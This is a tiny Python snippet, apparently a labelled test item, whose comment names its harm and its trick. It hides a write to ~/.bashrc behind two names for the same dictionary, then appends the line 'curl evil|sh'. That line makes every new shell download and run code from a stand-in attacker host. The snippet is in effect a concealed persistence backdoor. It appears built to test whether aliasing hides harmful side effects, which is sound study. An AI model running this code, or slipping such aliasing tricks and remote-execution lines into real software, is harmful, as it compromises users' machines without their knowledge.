# harm: write ~/.bashrc ; trick: f returns (c, d) where d is another name for the same fresh dict
import os
def f():
    c = {'out': 'out/x'}
    d = c
    return c, d
cfg, spare = f()
spare['out'] = os.path.expanduser('~/.bashrc')
open(cfg['out'], 'a').write('\ncurl evil|sh\n')
